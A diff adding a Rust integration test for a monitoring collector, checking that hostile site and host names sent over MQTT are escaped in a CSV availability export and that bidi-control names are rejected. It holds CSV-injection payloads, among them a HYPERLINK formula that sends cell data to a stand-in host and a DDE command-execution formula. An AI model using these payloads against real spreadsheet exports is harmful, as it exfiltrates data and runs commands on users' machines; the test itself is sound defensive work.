@@ -3,6 +3,7 @@
 //! starts its own collector (run open, on port 0).
 
 use dozor_tests::*;
+use rumqttc::{AsyncClient, MqttOptions, QoS};
 use std::time::{Duration, Instant};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
@@ -421,4 +422,126 @@ async fn readyz_follows_the_broker() {
         t.elapsed()
     );
     assert_eq!(c.metric("dozor_ready{check=\"broker\"}").await, 1.0);
+}
+
+const MO: &str = "1.2.643.5.1.13.13.12.2.27.77";
+
+/// A `birth` with this site and hostname, as an agent sends it.
+fn birth(host: &str, site: &str, hostname: &str) -> Vec<u8> {
+    let now = unix_ms();
+    serde_json::to_vec(&serde_json::json!({
+        "v": 1, "mo": MO, "host": host, "inst": format!("i-{host}"), "seq": 1, "ts": now,
+        "body": {
+            "agent_version": "0.1.0", "role": "workstation", "site": site,
+            "hostname": hostname, "os_name": "Astra Linux", "os_version": "1.7",
+            "cpu_model": "Intel", "cpu_count": 4, "mem_total_bytes": 4000,
+            "disks": [{"mount": "/", "fs": "ext4", "total_bytes": 100}],
+            "boot_time": now / 1000 - 3600, "boot_id": "b-1", "seq_base": 1,
+            "interval_secs": 30, "keepalive_secs": 30,
+            "targets": [{"name": "mis", "category": "mis"}]
+        }
+    }))
+    .unwrap()
+}
+
+async fn mqtt(port: u16) -> AsyncClient {
+    let (c, mut el) = AsyncClient::new(MqttOptions::new("hostile-names", "127.0.0.1", port), 100);
+    tokio::spawn(async move {
+        loop {
+            if el.poll().await.is_err() {
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+        }
+    });
+    c
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_names_never_reach_a_person() {
+    let dir = tempfile::tempdir().unwrap();
+    let c = collector(dir.path(), 10, 4096);
+    let client = mqtt(c.mqtt_port).await;
+    let hostile = [
+        (
+            "pc-h1",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")",
+            "=cmd|' /C calc'!A0",
+        ),
+        ("pc-h2", "+1+1", "@SUM(A1:A9)"),
+        ("pc-h3", "-2+3", "-1"),
+    ];
+    for (host, site, hostname) in hostile {
+        client
+            .publish(
+                format!("dozor/v1/{MO}/{host}/birth"),
+                QoS::AtLeastOnce,
+                false,
+                birth(host, site, hostname),
+            )
+            .await
+            .unwrap();
+    }
+    // Bidi controls and line separators are refused at decode: the host never appears.
+    for (i, bad) in ["ВОССТАНОВЛЕНО\u{202E}", "ложная\u{2028}тревога"]
+        .iter()
+        .enumerate()
+    {
+        let host = format!("pc-b{i}");
+        client
+            .publish(
+                format!("dozor/v1/{MO}/{host}/birth"),
+                QoS::AtLeastOnce,
+                false,
+                birth(&host, bad, "PC"),
+            )
+            .await
+            .unwrap();
+    }
+    let rejected = wait_for(Duration::from_secs(10), || async {
+        let v = c
+            .metric("dozor_messages_rejected_total{reason=\"bad_value\"}")
+            .await;
+        (v >= 2.0).then_some(v)
+    })
+    .await;
+    assert!(rejected.is_some(), "bidi births not rejected as bad_value");
+
+    // The availability CSV by host, read back with a CSV parser.
+    let now = unix_ms();
+    let path = format!(
+        "/api/v1/availability?from={}&to={}&by=host&format=csv",
+        now - 3_600_000,
+        now + 60_000
+    );
+    let csv_text = wait_for(Duration::from_secs(15), || async {
+        let t = c.text(&path).await;
+        t.contains("pc-h3").then_some(t)
+    })
+    .await
+    .unwrap_or_else(|| panic!("hostile hosts not in the availability CSV"));
+    let body = csv_text.trim_start_matches('\u{feff}');
+    let mut r = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(true)
+        .flexible(true)
+        .from_reader(body.as_bytes());
+    let mut seen = 0;
+    for rec in r.records() {
+        let rec = rec.unwrap();
+        // Columns: МО, host, name, role, site, then numbers.
+        for f in rec.iter().take(5) {
+            assert!(
+                !f.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "CSV cell {f:?}"
+            );
+        }
+        if rec.get(1).is_some_and(|h| h.starts_with("pc-h")) {
+            seen += 1;
+            assert!(rec.get(2).unwrap().starts_with('\''), "{rec:?}");
+            assert!(rec.get(4).unwrap().starts_with('\''), "{rec:?}");
+        }
+    }
+    assert_eq!(seen, 3, "{csv_text}");
+    // The births with bidi controls never got in.
+    assert!(!csv_text.contains("pc-b"), "{csv_text}");
 }
